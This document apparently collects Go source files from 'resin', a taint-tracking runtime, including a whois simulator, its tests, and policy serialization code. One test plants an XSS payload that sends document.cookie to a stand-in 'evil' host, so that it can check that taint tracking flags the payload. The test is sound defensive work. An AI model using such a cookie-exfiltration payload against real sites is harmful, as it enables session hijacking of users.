// LoadFixedLog reads the fixed-findings record (docs/vet-fixed.log):
// one finding per line, "<rule>/<file>:<line>\t<detail>", '#' comments
// and blank lines ignored. The log is the human-maintained input from
// which -write mints the certificate's status:"fixed" entries; the
// certificate itself stays fully machine-generated.
func LoadFixedLog(path string) ([]CertEntry, error) {
	raw, err := os.ReadFile(path)
	if err != nil {
		if os.IsNotExist(err) {
			return nil, nil
		}
		return nil, err
	}
	var out []CertEntry
	for ln, line := range strings.Split(string(raw), "\n") {
		line = strings.TrimSpace(line)
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		id, detail, _ := strings.Cut(line, "\t")
		rule, loc, ok := strings.Cut(id, "/")
		if !ok {
			return nil, fmt.Errorf("vet: %s:%d: malformed finding id %q", path, ln+1, id)
		}
		file, lineStr, ok := strings.Cut(loc, ":")
		var lineNo int
		if ok {
			_, err := fmt.Sscanf(lineStr, "%d", &lineNo)
			if err != nil {
				return nil, fmt.Errorf("vet: %s:%d: malformed finding id %q", path, ln+1, id)
			}
		}
		out = append(out, CertEntry{
			ID: id, Rule: rule, File: file, Line: lineNo,
			Status: "fixed", Detail: strings.TrimSpace(detail),
		})
	}
	return out, nil
}
