package whois

import (
	"testing"

	"resin/internal/core"
	"resin/internal/sanitize"
)

func TestLookupTaintsResponse(t *testing.T) {
	srv := NewServer()
	srv.SetRecord("1.2.3.4", "owner: example corp")
	c := NewClient(core.NewRuntime(), srv)
	got, err := c.Lookup("1.2.3.4")
	if err != nil {
		t.Fatal(err)
	}
	if got.Raw() != "owner: example corp" {
		t.Errorf("raw = %q", got.Raw())
	}
	if !got.HasPolicyEverywhere(sanitize.IsUntrusted) {
		t.Error("whois response must be tainted on entry")
	}
	ps := got.Policies().Policies()
	if src := ps[0].(*sanitize.UntrustedData).Source; src != "whois:1.2.3.4" {
		t.Errorf("source = %q", src)
	}
}

func TestLookupMissing(t *testing.T) {
	c := NewClient(core.NewRuntime(), NewServer())
	if _, err := c.Lookup("zz"); err == nil {
		t.Fatal("missing record should error")
	}
}

func TestLookupUntracked(t *testing.T) {
	srv := NewServer()
	srv.SetRecord("k", "v")
	c := NewClient(core.NewUntrackedRuntime(), srv)
	got, err := c.Lookup("k")
	if err != nil {
		t.Fatal(err)
	}
	if got.IsTainted() {
		t.Error("untracked lookup must not taint")
	}
}

func TestAdversaryPlantedScript(t *testing.T) {
	// The §6.3 path: an adversary inserts JavaScript into a whois record.
	srv := NewServer()
	srv.SetRecord("6.6.6.6", `owner: <script>document.location='http://evil/?c='+document.cookie</script>`)
	c := NewClient(core.NewRuntime(), srv)
	got, err := c.Lookup("6.6.6.6")
	if err != nil {
		t.Fatal(err)
	}
	// Every byte — including the script tags — is untrusted, so the XSS
	// assertion at the HTML boundary will catch it regardless of the path
	// the data took to get there.
	if !got.HasPolicyEverywhere(sanitize.IsUntrusted) {
		t.Error("planted script must carry taint")
	}
}
