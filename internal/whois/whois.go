// Package whois simulates the whois service behind the unusual phpBB
// cross-site scripting path of §6.3: phpBB queried a whois server and
// incorporated the response into HTML without sanitizing it; an adversary
// planted malicious JavaScript in a whois record.
//
// Responses enter the runtime through a socket boundary whose read filter
// taints them as untrusted — which is why a high-level XSS assertion
// covers this surprising path with no extra code.
package whois

import (
	"fmt"
	"sync"

	"resin/internal/core"
	"resin/internal/sanitize"
)

// Server is a toy whois registry an "adversary" can write records into.
type Server struct {
	mu      sync.RWMutex
	records map[string]string
}

// NewServer returns an empty whois registry.
func NewServer() *Server {
	return &Server{records: make(map[string]string)}
}

// SetRecord stores the whois text for a query key (e.g. an IP address).
func (s *Server) SetRecord(key, text string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.records[key] = text
}

// lookup returns the raw record text.
func (s *Server) lookup(key string) (string, bool) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	t, ok := s.records[key]
	return t, ok
}

// Client queries a whois server over a RESIN socket boundary.
type Client struct {
	rt     *core.Runtime
	server *Server
}

// NewClient returns a client bound to rt talking to server.
func NewClient(rt *core.Runtime, server *Server) *Client {
	return &Client{rt: rt, server: server}
}

// Lookup fetches the whois record for key. The response crosses the
// socket boundary, whose read filter marks every byte untrusted.
func (c *Client) Lookup(key string) (core.String, error) {
	raw, ok := c.server.lookup(key)
	if !ok {
		return core.String{}, fmt.Errorf("whois: no record for %q", key)
	}
	ch := core.NewChannel(c.rt, core.KindSocket,
		&core.TaintReadFilter{Policies: []core.Policy{&sanitize.UntrustedData{Source: "whois:" + key}}},
	)
	ch.Context().Set("remote", "whois")
	return ch.Read(core.NewString(raw))
}
