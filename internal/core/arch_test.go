package core_test

import (
	"go/parser"
	"go/token"
	"os"
	"strings"
	"testing"
)

// TestCoreImportsOnlyStdlib is the architecture guard for the runtime
// layer: internal/core — policy objects, data tracking, filter objects,
// interning — must import only the standard library. Boundary adapters
// (httpd, sqldb, mail, vfs, remote) depend on core, never the other way
// around; see docs/ARCHITECTURE.md. A stdlib import path has no dot in
// its first element ("encoding/json", "sync"), while module paths do
// ("resin" is dot-free too, so module-internal imports are rejected
// explicitly).
func TestCoreImportsOnlyStdlib(t *testing.T) {
	fset := token.NewFileSet()
	entries, err := os.ReadDir(".")
	if err != nil {
		t.Fatalf("read core directory: %v", err)
	}
	for _, entry := range entries {
		name := entry.Name()
		if entry.IsDir() || !strings.HasSuffix(name, ".go") || strings.HasSuffix(name, "_test.go") {
			continue
		}
		f, err := parser.ParseFile(fset, name, nil, parser.ImportsOnly)
		if err != nil {
			t.Errorf("parse %s: %v", name, err)
			continue
		}
		for _, imp := range f.Imports {
			path := strings.Trim(imp.Path.Value, `"`)
			first, _, _ := strings.Cut(path, "/")
			if first == "resin" {
				t.Errorf("%s imports %s: internal/core must not depend on other packages of this module", name, path)
				continue
			}
			if strings.Contains(first, ".") {
				t.Errorf("%s imports %s: internal/core must import only the standard library", name, path)
			}
		}
	}
}
