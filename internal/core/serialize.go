package core

import (
	"encoding/json"
	"fmt"
	"reflect"
	"sync"
)

// Persistent policies (§3.4.1): RESIN serializes policy objects when data
// leaves the runtime for files or database cells, and re-instantiates them
// when the data is read back, so assertions survive across program
// executions and can even be checked by other RESIN-aware programs (the
// web server's static file path).
//
// "RESIN only serializes the class name and data fields of a policy
// object" — so a policy class must be registered under a stable name, and
// its data fields round-trip through encoding/json. Deserialized policies
// are instantiated from the stored bytes, so their class code is whatever
// the current program defines, which is what lets programmers evolve
// export_check behaviour without migrating stored policies. Instantiation
// is per distinct stored annotation, not per read: repeated decodes of
// the same bytes share one memoized instance (see DecodeSpans), so
// decoded policies are plain data and must not be mutated.

type classRegistry struct {
	mu     sync.RWMutex
	byName map[string]reflect.Type
	byType map[reflect.Type]string
}

func newClassRegistry() *classRegistry {
	return &classRegistry{
		byName: make(map[string]reflect.Type),
		byType: make(map[reflect.Type]string),
	}
}

func (r *classRegistry) register(name string, prototype any) {
	t := reflect.TypeOf(prototype)
	if t == nil {
		panic("resin: register class: nil prototype")
	}
	if t.Kind() != reflect.Pointer || t.Elem().Kind() != reflect.Struct {
		panic(fmt.Sprintf("resin: register class %q: prototype must be a pointer to struct, got %T", name, prototype))
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	if old, ok := r.byName[name]; ok && old != t {
		panic(fmt.Sprintf("resin: class name %q already registered for %v", name, old))
	}
	r.byName[name] = t
	r.byType[t] = name
}

func (r *classRegistry) nameOf(v any) (string, bool) {
	r.mu.RLock()
	defer r.mu.RUnlock()
	name, ok := r.byType[reflect.TypeOf(v)]
	return name, ok
}

func (r *classRegistry) instantiate(name string) (any, bool) {
	r.mu.RLock()
	t, ok := r.byName[name]
	r.mu.RUnlock()
	if !ok {
		return nil, false
	}
	return reflect.New(t.Elem()).Interface(), true
}

var (
	policyClasses = newClassRegistry()
	filterClasses = newClassRegistry()
)

// RegisterPolicyClass registers a policy class for persistent
// serialization under a stable name. The prototype must be a pointer to a
// struct; its exported fields are the serialized "data fields".
// Registration typically happens in an init function of the package
// defining the policy.
func RegisterPolicyClass(name string, prototype Policy) {
	policyClasses.register(name, prototype)
}

// RegisteredPolicyName returns the class name p was registered under.
func RegisteredPolicyName(p Policy) (string, bool) { return policyClasses.nameOf(p) }

// RegisterFilterClass registers a filter class for persistent filter
// objects (§3.2.3), which are stored in file/directory extended attributes.
func RegisterFilterClass(name string, prototype Filter) {
	filterClasses.register(name, prototype)
}

// RegisteredFilterName returns the class name f was registered under.
func RegisteredFilterName(f Filter) (string, bool) { return filterClasses.nameOf(f) }

// wireObject is the serialized form of a policy or filter object: the
// class name plus the JSON encoding of the object's data fields.
type wireObject struct {
	Class  string          `json:"class"`
	Fields json.RawMessage `json:"fields"`
}

func encodeObject(reg *classRegistry, what string, v any) ([]byte, error) {
	name, ok := reg.nameOf(v)
	if !ok {
		return nil, fmt.Errorf("resin: cannot serialize unregistered %s class %T", what, v)
	}
	fields, err := json.Marshal(v)
	if err != nil {
		return nil, fmt.Errorf("resin: serialize %s %s: %w", what, name, err)
	}
	return json.Marshal(wireObject{Class: name, Fields: fields})
}

func decodeObject(reg *classRegistry, what string, data []byte) (any, error) {
	var w wireObject
	if err := json.Unmarshal(data, &w); err != nil {
		return nil, fmt.Errorf("resin: decode %s: %w", what, err)
	}
	v, ok := reg.instantiate(w.Class)
	if !ok {
		return nil, fmt.Errorf("resin: decode %s: unknown class %q", what, w.Class)
	}
	if len(w.Fields) > 0 {
		if err := json.Unmarshal(w.Fields, v); err != nil {
			return nil, fmt.Errorf("resin: decode %s %s fields: %w", what, w.Class, err)
		}
	}
	return v, nil
}

// EncodePolicy serializes a policy object as {"class": ..., "fields": ...}.
func EncodePolicy(p Policy) ([]byte, error) { return encodeObject(policyClasses, "policy", p) }

// DecodePolicy re-instantiates a policy object serialized by EncodePolicy.
func DecodePolicy(data []byte) (Policy, error) {
	v, err := decodeObject(policyClasses, "policy", data)
	if err != nil {
		return nil, err
	}
	p, ok := v.(Policy)
	if !ok {
		return nil, fmt.Errorf("resin: decoded class %T is not a Policy", v)
	}
	return p, nil
}

// EncodeFilter serializes a persistent filter object (§3.2.3).
func EncodeFilter(f Filter) ([]byte, error) { return encodeObject(filterClasses, "filter", f) }

// DecodeFilter re-instantiates a persistent filter object.
func DecodeFilter(data []byte) (Filter, error) {
	return decodeObject(filterClasses, "filter", data)
}

// wireSpan is the serialized form of one policy span of a tracked string.
type wireSpan struct {
	Start    int               `json:"start"`
	End      int               `json:"end"`
	Policies []json.RawMessage `json:"policies"`
}

// EncodeSpans serializes the policy annotation of a tracked string — the
// metadata the default file filter writes into a file's extended
// attributes and the SQL filter writes into policy columns. Returns nil
// for an untainted string. Policies that are not registered for
// serialization are skipped with an error so that confidentiality
// policies are never silently dropped.
func EncodeSpans(t String) ([]byte, error) {
	if !t.IsTainted() {
		return nil, nil
	}
	if lineageOn() {
		lineageRecordSpans(t, "serialize", "core.encode")
	}
	var ws []wireSpan
	err := t.EachTaintedSpan(func(start, end int, ps *PolicySet) error {
		w := wireSpan{Start: start, End: end}
		if err := ps.Each(func(p Policy) error {
			enc, err := EncodePolicy(p)
			if err != nil {
				return err
			}
			w.Policies = append(w.Policies, enc)
			return nil
		}); err != nil {
			return err
		}
		ws = append(ws, w)
		return nil
	})
	if err != nil {
		return nil, err
	}
	return json.Marshal(ws)
}

// CompiledAnnotation is a policy annotation parsed, instantiated, and
// interned once, applicable to any number of raw values. The SQL
// filter's batched decode path compiles each distinct annotation of a
// result set once and applies it per cell, so a SELECT returning N rows
// pays JSON parsing and policy instantiation per distinct annotation,
// not per cell. Compiled annotations are immutable.
type CompiledAnnotation struct {
	spans []compiledSpan
}

type compiledSpan struct {
	start, end int
	set        *PolicySet
}

// Apply attaches the compiled spans to raw, clipped to its bounds.
func (c *CompiledAnnotation) Apply(raw string) String {
	t := NewString(raw)
	if c == nil {
		return t
	}
	for _, s := range c.spans {
		t = t.withSetRange(s.start, s.end, s.set)
	}
	return t
}

// PolicySet returns the interned union of every span's policy set —
// the whole-value policy content of the annotation, independent of
// which byte ranges carry it. The SQL filter uses this to attach
// aggregate outputs (where span positions are meaningless) with the
// union of their inputs' policies. A nil or empty annotation yields
// nil, which callers treat as untainted.
func (c *CompiledAnnotation) PolicySet() *PolicySet {
	if c == nil {
		return nil
	}
	var set *PolicySet
	for _, s := range c.spans {
		set = set.Union(s.set)
	}
	return set
}

// annCompileMemo caches CompileAnnotation results per annotation bytes,
// bounded and flushed wholesale at cap (the shared eviction idiom:
// churn re-warms, it never permanently disables the cache).
var annCompileMemo struct {
	mu    sync.RWMutex
	m     map[string]*CompiledAnnotation
	bytes int
}

const (
	// annCompileMemoCap bounds the number of memoized compiles.
	annCompileMemoCap = 4096
	// annCompileMemoMaxBytes bounds one memoizable annotation; larger
	// annotations compile per call rather than pin the memo.
	annCompileMemoMaxBytes = 64 << 10
	// annCompileMemoMaxTotal bounds the cumulative annotation bytes
	// pinned by the memo.
	annCompileMemoMaxTotal = 8 << 20
)

// CompileAnnotation parses a policy annotation (the EncodeSpans wire
// form) into a reusable CompiledAnnotation, re-instantiating each
// policy object and interning each span's policy set. Results are
// memoized per annotation bytes: re-reading a stored cell or file
// shares one compiled form — and therefore one set of policy instances
// — across raws, queries, and goroutines. A nil/empty annotation yields
// nil, which Apply treats as untainted.
func CompileAnnotation(annotation []byte) (*CompiledAnnotation, error) {
	if len(annotation) == 0 {
		return nil, nil
	}
	memoizable := len(annotation) <= annCompileMemoMaxBytes
	if memoizable {
		annCompileMemo.mu.RLock()
		memoized, ok := annCompileMemo.m[string(annotation)]
		annCompileMemo.mu.RUnlock()
		if ok {
			return memoized, nil
		}
	}
	var ws []wireSpan
	if err := json.Unmarshal(annotation, &ws); err != nil {
		return nil, fmt.Errorf("resin: decode spans: %w", err)
	}
	c := &CompiledAnnotation{spans: make([]compiledSpan, 0, len(ws))}
	for _, w := range ws {
		ps := make([]Policy, 0, len(w.Policies))
		for _, enc := range w.Policies {
			p, err := DecodePolicy(enc)
			if err != nil {
				return nil, err
			}
			ps = append(ps, p)
		}
		set := NewPolicySet(ps...)
		if memoizable {
			// Only memoized compiles intern: an oversized annotation
			// instantiates fresh policies per call, so interning would
			// be a guaranteed table miss each time, churning and
			// flushing the global table.
			set = set.Intern()
		}
		c.spans = append(c.spans, compiledSpan{start: w.Start, end: w.End, set: set})
	}
	if memoizable {
		annCompileMemo.mu.Lock()
		if annCompileMemo.m == nil || len(annCompileMemo.m) >= annCompileMemoCap ||
			annCompileMemo.bytes >= annCompileMemoMaxTotal {
			annCompileMemo.m = make(map[string]*CompiledAnnotation, 64)
			annCompileMemo.bytes = 0
		}
		if existing, ok := annCompileMemo.m[string(annotation)]; ok {
			c = existing // racing compile: keep the installed one
		} else {
			annCompileMemo.m[string(annotation)] = c
			annCompileMemo.bytes += len(annotation)
		}
		annCompileMemo.mu.Unlock()
	}
	return c, nil
}

// spanDecodeMemo caches DecodeSpans results per (raw, annotation)
// pair. Boundary adapters re-read the same stored bytes constantly —
// every SELECT of a policy-carrying cell, every ReadFile of an
// annotated file — and decoding is deterministic, so repeated reads
// can share one immutable String, including its policy objects and its
// interned sets; without the memo each re-read would re-parse JSON,
// re-instantiate policies, and register never-matching fresh sets in
// the intern table. The memo is flushed wholesale at its cap, bounding
// memory on annotation-churning workloads.
// The memo nests raw → annotation → result so the hit path can index
// the inner map with string(annotation) directly (the compiler elides
// that conversion's allocation for map lookups); a flat struct key
// would copy the annotation bytes on every call.
var spanDecodeMemo struct {
	mu    sync.RWMutex
	m     map[string]map[string]String
	n     int
	bytes int
}

const (
	// spanDecodeMemoCap bounds the total number of memoized decodes.
	spanDecodeMemoCap = 4096
	// spanDecodeMemoMaxBytes bounds the size of a single memoized
	// entry (raw + annotation): entries pin their bytes until the next
	// wholesale flush, and a workload decoding large annotated files
	// (the vfs read path passes whole file bodies) must not pin
	// gigabytes while staying under the entry-count cap. Oversized
	// decodes skip the memo and are simply decoded each time.
	spanDecodeMemoMaxBytes = 64 << 10
	// spanDecodeMemoMaxTotal bounds the cumulative raw+annotation
	// bytes pinned by the memo, so many distinct entries near the
	// per-entry limit flush early instead of holding hundreds of
	// megabytes until the entry-count cap trips.
	spanDecodeMemoMaxTotal = 32 << 20
)

// DecodeSpans attaches the policy annotation serialized by EncodeSpans to
// the raw string data, re-instantiating every policy object. A nil/empty
// annotation yields an untainted string.
//
// Decoded policy sets are canonicalized through the intern table, so
// the fast pointer-identity paths apply to deserialized data as well,
// and repeated decodes of the same (raw, annotation) bytes are
// memoized to one shared immutable String. Policy objects are
// therefore fresh per distinct stored annotation rather than per call;
// they are plain data (§3.4.1: the class name and data fields) and
// must not be mutated after decode.
func DecodeSpans(raw string, annotation []byte) (String, error) {
	t := NewString(raw)
	if len(annotation) == 0 {
		return t, nil
	}
	memoizable := len(raw)+len(annotation) <= spanDecodeMemoMaxBytes
	if memoizable {
		spanDecodeMemo.mu.RLock()
		memoized, ok := spanDecodeMemo.m[raw][string(annotation)]
		spanDecodeMemo.mu.RUnlock()
		if ok {
			// A memo hit is still a boundary crossing: the caller is
			// re-reading stored bytes, so lineage must see it.
			if lineageOn() && len(memoized.spans) > 0 {
				lineageRecordSpans(memoized, "deserialize", "core.decode")
			}
			return memoized, nil
		}
	}
	comp, err := CompileAnnotation(annotation)
	if err != nil {
		return String{}, err
	}
	t = comp.Apply(raw)
	if lineageOn() && len(t.spans) > 0 {
		lineageRecordSpans(t, "deserialize", "core.decode")
	}
	if memoizable {
		spanDecodeMemo.mu.Lock()
		if spanDecodeMemo.m == nil || spanDecodeMemo.n >= spanDecodeMemoCap ||
			spanDecodeMemo.bytes >= spanDecodeMemoMaxTotal {
			spanDecodeMemo.m = make(map[string]map[string]String, 64)
			spanDecodeMemo.n = 0
			spanDecodeMemo.bytes = 0
		}
		inner := spanDecodeMemo.m[raw]
		if inner == nil {
			inner = make(map[string]String, 1)
			spanDecodeMemo.m[raw] = inner
		}
		if _, exists := inner[string(annotation)]; !exists {
			inner[string(annotation)] = t
			spanDecodeMemo.n++
			spanDecodeMemo.bytes += len(raw) + len(annotation)
		}
		spanDecodeMemo.mu.Unlock()
	}
	return t, nil
}
