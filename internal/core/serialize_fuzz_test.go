package core

import (
	"testing"
)

// fuzzSpanPolicy is a registered policy class for the annotation
// round-trip fuzz; its one data field makes field serialization part of
// what the fuzz exercises.
type fuzzSpanPolicy struct {
	Tag string `json:"tag"`
}

func (p *fuzzSpanPolicy) ExportCheck(ctx *Context) error { return nil }

func init() {
	RegisterPolicyClass("test.FuzzSpanPolicy", &fuzzSpanPolicy{})
}

// FuzzCompileAnnotation fuzzes the two halves of the stored-annotation
// contract the SQL filter and the WAL both lean on:
//
//  1. decoding arbitrary annotation bytes (CompileAnnotation and its
//     Apply) never panics — it either yields a compiled annotation or an
//     error;
//  2. a real annotation round-trips: EncodeSpans of a tainted string,
//     decoded and re-applied to the same raw bytes, re-encodes to the
//     identical annotation.
func FuzzCompileAnnotation(f *testing.F) {
	f.Add([]byte(`not json`), "raw data", uint8(0), uint8(4))
	f.Add([]byte(`[]`), "", uint8(0), uint8(0))
	f.Add([]byte(`[{"start":0,"end":8,"policies":[{"class":"test.FuzzSpanPolicy","fields":{"tag":"x"}}]}]`),
		"s3cretpw", uint8(2), uint8(6))
	f.Add([]byte(`[{"start":-5,"end":999999,"policies":[{"class":"nope","fields":{}}]}]`), "abc", uint8(1), uint8(2))
	f.Add([]byte(`[{"start":3,"end":1,"policies":null}]`), "xyzw", uint8(3), uint8(3))

	f.Fuzz(func(t *testing.T, ann []byte, raw string, a, b uint8) {
		// 1. Arbitrary bytes: decode must not panic; a successful compile
		// must apply cleanly to any raw value.
		if c, err := CompileAnnotation(ann); err == nil {
			_ = c.Apply(raw)
			_ = c.Apply("")
		}

		// 2. Round-trip: taint raw over a clipped [start, end) range,
		// encode, decode, re-apply, re-encode — byte-identical.
		start, end := int(a), int(b)
		if start > len(raw) {
			start = len(raw)
		}
		if end > len(raw) {
			end = len(raw)
		}
		if end <= start {
			return
		}
		tainted := NewString(raw).WithPolicyRange(start, end, &fuzzSpanPolicy{Tag: "rt"})
		enc, err := EncodeSpans(tainted)
		if err != nil {
			t.Fatalf("EncodeSpans of a registered policy: %v", err)
		}
		comp, err := CompileAnnotation(enc)
		if err != nil {
			t.Fatalf("decode of own encoding %s: %v", enc, err)
		}
		enc2, err := EncodeSpans(comp.Apply(raw))
		if err != nil {
			t.Fatalf("re-encode: %v", err)
		}
		if string(enc) != string(enc2) {
			t.Fatalf("annotation round-trip diverged:\n first: %s\nsecond: %s", enc, enc2)
		}
	})
}
